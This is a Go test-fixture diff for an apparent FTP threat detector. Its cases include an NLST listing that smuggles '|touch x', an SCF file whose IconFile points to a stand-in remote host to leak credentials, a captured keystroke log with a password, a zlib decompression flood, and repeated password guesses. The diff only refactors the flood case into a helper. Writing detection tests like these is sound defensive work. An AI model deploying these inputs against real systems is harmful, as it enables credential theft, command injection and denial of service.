@@ -59,11 +59,7 @@ var weakSigns = []struct {
 	{"a listing with a command", "no-climbing", moved("NLST", answerer, "|touch x\r\nb.txt\r\n")},
 	{"an icon at another host", "no-loot", moved("STOR @docs.scf", opener, "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.66\\x\\a.ico\r\n")},
 	{"the keys that somebody pressed", "no-loot", moved("STOR log.txt", opener, "ada[TAB]Secr3t[ENTER]\r\ndear[BACKSPACE][BACKSPACE]hello\r\n")},
-	{"data that grows without an end", "no-floods", func(f *forge.Capture) {
-		t := f.Control().Say(hello).Say("> MODE Z\n< 200 ok")
-		move(t, 40000, "STOR a", "x\xda"+strings.Repeat("\x00", 1200))
-		t.Say(bye).Peer.Close()
-	}},
+	{"data that grows without an end", "no-floods", inMode("> MODE Z\n< 200 ok", "x\xda"+strings.Repeat("\x00", 1200))},
 	{"passwords that end in a hang-up", "no-guessing", func(f *forge.Capture) {
 		for i := range 12 {
 			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 421 no, goodbye", i)).Peer.Close()
